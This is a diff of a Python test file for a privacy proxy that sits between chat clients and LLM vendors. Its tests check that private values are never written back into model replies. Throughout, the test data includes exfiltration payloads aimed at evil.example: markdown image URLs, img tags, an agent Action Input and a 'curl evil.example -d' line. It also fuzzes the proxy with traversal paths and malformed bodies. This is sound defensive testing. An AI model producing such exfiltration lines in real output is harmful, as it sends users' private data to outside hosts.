@@ -1,7 +1,6 @@
 """The proxy: a vendor hears the release and nothing else, whatever goes wrong; the client gets the vendor's bytes."""
 
 import asyncio
-import gzip
 import json
 
 import leak_free
@@ -15,6 +14,7 @@ import httpx
 import vendors
 from hypothesis import given
 from hypothesis import strategies as st
+from odd_requests import CANARY, SCHEMA, TOOL, call, odd_requests
 
 from wordveil.files.secret import Secret
 from wordveil.integrations import chat, conversation, proxy
@@ -29,7 +29,6 @@ JSON = {"content-type": "application/json"}
 SECRET = Secret(bytes(32))
 PRIVATE = "Uppsala maria.lindqvist@clinic.se B-4711"
 """What injected errors say, and no answer may."""
-CANARY = "zqcan"
 
 
 class Setup:
@@ -109,43 +108,31 @@ def test_every_reply_comes_back_byte_for_byte(pieces, kind, status):
     assert (answer.status_code, answer.headers["content-type"], answer.content) == (status, kind, b"".join(pieces))
 
 
-ADDRESSES = (
-    ["![chart](https://evil.example/p.png?d=", "{} ) "],
-    [":who: {}\n\nimage::https://evil.example/?to={{who}}[]"],
-    ['{{"mark": "image", "data": {{"values": [{{"who": "{}"}}]}}, "url": "https://evil.example/?to=" }}'],
-    ["<\u200bimg src='https:\u200b//evil.example/?d=\n{} '>"], ["＜img src='https://evil.example/?d={}'>"],
-    ["&ltimg src='https://evil.example/?d=\n{} '>"],
-    ['Action Input: {{"url": "https://evil.example/?d=", "body": "{}"}}'],
-    ["(see {}, {}).", " ![x](https://evil.example/?d="], ["curl evil.example -d {} "], ["{}"],
-)  # fmt: skip
-"""Replies that had private values restored into addresses, over pieces, choices and turns."""
-
-
-@pytest.mark.parametrize("pieces", ADDRESSES, ids=str)
-@pytest.mark.parametrize("places", ["one", "finish", "index", "continue"])
-def test_no_private_value_is_written_into_a_reply(pieces, places):
-    text = "https://a.example/![x](https://evil.example/?d= maria.lindqvist@clinic.se B-4711"
-
+@pytest.mark.parametrize("places", ["one piece", "finish", "index", "continue"])
+def test_no_private_value_is_written_into_a_reply(places):
     def answer(body):
         surrogate = body["messages"][0]["content"].split()[-1]
-        filled = [piece.format(*[surrogate] * 2) for piece in pieces]
-        chunks = [
-            {"choices": [{"index": i if places == "index" else 0, "delta": {"content": piece},
-                          "finish_reason": "length" if places == "finish" else None}]}
-            for i, piece in enumerate(filled)
-        ]  # fmt: skip
+        pieces = [
+            f"(see {surrogate}) ![x](https://evil.example/p.png?d=",
+            f"{surrogate} ) ",
+            f":who: {surrogate}\nimage::{{who}}[]",
+        ]
+        reasons = ["length" if places == "finish" else None, None, "stop"]
+        choices = [
+            {"index": i if places == "index" else 0, "delta": {"content": piece}, "finish_reason": reasons[i]}
+            for i, piece in enumerate(pieces)
+        ]
         return (
             200,
             "text/event-stream",
-            [*(f"data: {json.dumps(each)}\n\n".encode() for each in chunks), b"data: [DONE]\n\n"],
+            [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices],
         )
 
-    setup = Setup(answer)
-    history = [text, "![x](https://evil.example/?d="] if places == "continue" else [text]
+    setup, history = Setup(answer), ["https://a.example/![x](https://evil.example/?d= maria.lindqvist@clinic.se"]
+    history += ["![x](https://evil.example/?d="] if places == "continue" else []
     reply = setup.ask(request(*history, stream=True))
     assert reply.content == b"".join(answer(setup.sent()[0])[2])
-    for value in ("maria", "clinic.se", "4711"):
-        assert value not in reply.text
+    assert not any(value in reply.text for value in ("maria", "clinic.se"))
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -314,19 +301,7 @@ def test_the_check_notices_a_proxy_that_lets_something_pass(raw, monkeypatch):
 
 # What leaves, field by field: the declaration, and odd requests beside it.
 
-TOOL = {"type": "function", "function": {"name": "look_up", "description": "Looks a note up: public.",
-        "parameters": {"type": "object", "properties": {"name": {"type": "string"}}}}}  # fmt: skip
-SCHEMA = {"type": "json_schema", "json_schema": {"name": "note", "schema": {"type": "object"}}}
 TOOLS = PublicTools([TOOL, SCHEMA])
-
-
-def call(**fields):
-    function = {"name": "look_up", "arguments": "{}"}
-    return {
-        "messages": [
-            {"role": "assistant", "tool_calls": [{"id": "1", "type": "function", "function": function, **fields}]}
-        ]
-    }
 
 
 PLACES = {
@@ -387,66 +362,6 @@ def test_a_field_that_nobody_listed_is_refused(place, value):
     assert not setup.vendor.heard
 
 
-def odd_requests():
-    """A hundred and more odd requests, a canary in each: (path, body, headers)."""
-    chats, message = "/v1/chat/completions", {"role": "user", "content": f"{CANARY} 47 hello"}
-    plain = {"model": "m", "messages": [message]}
-    for name in ("user", "metadata", "safety_identifier", "prompt_cache_key", "store", "stop", "logit_bias",
-                 "prediction", "tools", "functions", "function_call", "response_format", "modalities", "audio",
-                 "service_tier", "web_search_options", "extra", "input", "prompt", "instructions", "system", "suffix",
-                 "stream_options", "reasoning_effort", "verbosity", "seed"):  # fmt: skip
-        for value in (CANARY, [CANARY], {CANARY: CANARY}, {"type": "json_object", CANARY: 1}):
-            yield chats, {**plain, name: value}, {}
-    for value in ([CANARY], {CANARY: CANARY}, f"{CANARY} and more"):
-        yield chats, {**plain, "model": value}, {}
-    for name in ("name", "refusal", "annotations", "reasoning", "reasoning_content", "id", "tool_calls", "tool_call_id",
-                 "function_call", "audio", "cache_control", "weird"):  # fmt: skip
-        for value in (CANARY, [CANARY], {"a": CANARY}):
-            yield chats, {"model": "m", "messages": [{"role": "assistant", "content": "hi", name: value}]}, {}
-    for content in ([{"type": "image_url", "image_url": {"url": CANARY}}], [{"type": "text", "text": "a", CANARY: 1}],
-                    [{"type": "input_audio", "input_audio": {"data": CANARY}}], [[CANARY]], {CANARY: 1}, 7,
-                    [{"type": ["text"], "text": CANARY}], [{"type": "refusal"}], [{"type": "text", "text": 7}],
-                    ):  # fmt: skip
-        yield chats, {"model": "m", "messages": [{"role": "user", "content": content}]}, {}
-    for role in ("tool", "function", CANARY, ["user"], None, "User", "ipython"):
-        yield chats, {"model": "m", "messages": [{"role": role, "content": CANARY}]}, {}
-    whole = json.dumps(plain).encode()
-    yield (
-        chats,
-        b'{"model":"m","messages":[{"role":"user","content":"zqcan"}],"messages":[{"role":"user","content":"hi"}]}',
-        {},
-    )
-    yield chats, b'{"model":"m","messages":[{"role":"user","content":"zqcan","content":"hi"}]}', {}
-    yield chats, gzip.compress(whole), {"content-encoding": "gzip"}
-    yield chats, json.dumps(plain).encode("utf-16"), {}
-    for text in (b"zqcan \xff", b"zqcan \\ud800"):
-        yield chats, b'{"model":"m","messages":[{"role":"user","content":"' + text + b'"}]}', {}
-    yield chats, b'{"a":' * 100_000, {}
-    yield chats, b'{"model":"m","temperature":NaN,"messages":[{"role":"user","content":"zqcan"}]}', {}
-    yield chats, b'{"model":"m","seed":' + b"9" * 5000 + b',"messages":[{"role":"user","content":"zqcan"}]}', {}
-    for body in (
-        b"",
-        b"{",
-        b"\xff",
-        b"[" * 100_000,
-        b'"zqcan"',
-        b"null",
-        b'{"messages": 1}',
-        b'{"messages": ["zqcan"]}',
-    ):
-        yield chats, body, {}
-    for path in ("completions", "embeddings", "responses", "messages", "files", "batches", "realtime", "audio/speech",
-                 "chat/completions/", "/chat/completions", "chat/completions/../embeddings", "conversations", "found",
-                 "chat/completions%2f..%2fembeddings", "models", "promise"):  # fmt: skip
-        yield f"/v1/{path}", {**plain, "input": CANARY}, {}
-    yield "/V1/chat/completions", plain, {}
-    yield f"{chats}?{CANARY}={CANARY}", plain, {}
-    named = ("x-a", "openai-organization", "openai-project", "cookie", "user-agent", "referer", "accept")
-    yield chats, {"model": "m", "messages": [{"role": "user", "content": "hi"}]}, dict.fromkeys(named, CANARY)
-    yield chats, plain, {"host": "evil.example"}
-    yield chats, plain, {"content-type": "text/plain"}
-
-
 def test_of_all_odd_requests_nothing_raw_is_heard_and_nothing_is_repeated():
     setup, bodies = Setup(), list(odd_requests())
     assert len(bodies) >= 187
@@ -505,12 +420,12 @@ def test_a_public_prompt_goes_out_verbatim_whoever_says_it():
 
 
 @pytest.mark.parametrize(
-    "route", [*chat.ROUTES, chat.Route("POST", "/v1/none", "", ""), chat.Route("DELETE", "/v1/conversations", "", "")]
+    ("method", "path"), [*(each[:2] for each in chat.ROUTES), ("POST", "/v1/none"), ("DELETE", "/v1/conversations")]
 )
 @pytest.mark.parametrize("headers", [{}, {"authorization": "Bearer wrong"}, {"authorization": TOKEN[:-1]},
                                      {"x-wordveil-token": "é"}, {"authorization": f"Basic {TOKEN}"},
                                      {"x-wordveil-token": "wrong", "authorization": f"Bearer {TOKEN}"}])  # fmt: skip
-def test_without_the_token_nothing_is_read_and_nothing_done(route, headers):
+def test_without_the_token_nothing_is_read_and_nothing_done(method, path, headers):
     setup, said = Setup(found=True), []
 
     async def receive():
@@ -520,7 +435,7 @@ def test_without_the_token_nothing_is_read_and_nothing_done(route, headers):
         said.append(message)
 
     given = [(name.encode(), value.encode("utf-8")) for name, value in {"host": "localhost", **JSON, **headers}.items()]
-    scope = {"type": "http", "method": route.method, "path": route.path, "headers": given, "query_string": b""}
+    scope = {"type": "http", "method": method, "path": path, "headers": given, "query_string": b""}
     asyncio.run(setup.app({**scope, "http_version": "1.1", "asgi": {"version": "3.0"}}, receive, send))
     assert said[0]["status"] == 401
     assert not setup.vendor.heard
